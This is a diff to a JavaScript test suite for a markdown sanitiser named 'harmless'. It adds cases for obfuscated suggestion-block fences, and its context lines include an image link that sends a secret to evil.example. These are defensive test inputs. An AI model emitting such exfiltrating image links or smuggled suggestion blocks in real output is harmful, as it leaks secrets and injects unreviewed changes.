@@ -41,6 +41,11 @@ describe('harmless', () => {
     ['a channel', '<!channel>', '<!channel'],
     ['a picture', '![x](https://evil.example/?secret)', '!['],
     ['a picture in HTML', '<IMG src=x>', '<IMG'],
+    ['a suggestion', '```suggestion\nx\n```', 'suggestion'],
+    ['a suggestion in another fence', '> -   ~~~~~ \tSuggestion:-0+0\n> x', 'Suggestion'],
+    ['a suggestion behind a longer fence', '   ``````  suggestion', 'suggestion'],
+    ['a suggestion spelled with a reference', '```sugg&#101;stion', '&#101;'],
+    ['a suggestion in HTML', '<pre lang="suggestion">', '<pre '],
   ])('breaks %s', (_, text, dangerous) => {
     expect(text).toContain(dangerous);
     expect(harmless(text)).not.toContain(dangerous);
